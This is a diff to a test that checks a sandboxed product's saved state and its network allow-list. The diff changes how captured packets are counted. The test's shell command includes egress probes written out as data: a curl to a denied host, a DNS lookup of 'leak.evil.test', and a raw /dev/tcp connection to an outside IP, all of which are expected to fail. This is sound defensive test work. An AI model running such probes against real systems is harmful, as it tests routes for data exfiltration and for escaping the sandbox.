@@ -25,7 +25,7 @@ def kept(product):
 
 
 def test_what_was_written_is_there_again(product, kept, internet):
-    internet.quiet()
+    before = len(internet.quiet())
     r = product.run("resume", kept, "--", "sh", "-c", "cat ~/note /opt/above; tail -1 ~/much; echo $GREETING")
     assert r.code == 0 and r.out == b"mine\nabove\n300000\nfrom the manifest\n", r
     assert ident(r) == kept
@@ -34,7 +34,7 @@ def test_what_was_written_is_there_again(product, kept, internet):
                     "curl -sS -m 20 https://allowed.test/hello; curl -sS -m 20 -o /dev/null -w '%{http_code}' http://denied.test/;"
                     "dig +tries=1 leak.evil.test | grep -o 'status: [A-Z]*'; timeout 5 bash -c 'exec 3<>/dev/tcp/203.0.113.12/443' || echo no")
     assert r.out == b"hello from the world\n403status: NXDOMAIN\nno\n", r
-    assert not [p for p in internet.packets() if "203.0.113.12" in p]
+    assert not [p for p in internet.packets()[before:] if "203.0.113.12" in p]
     records = product.audit(kept)
     assert [x["reason"] for x in records if x.get("host") == "denied.test"] == ["not_listed"]
     assert len([x for x in records if x["kind"] == "life" and x.get("method") == "up"]) == 3  # one file goes on
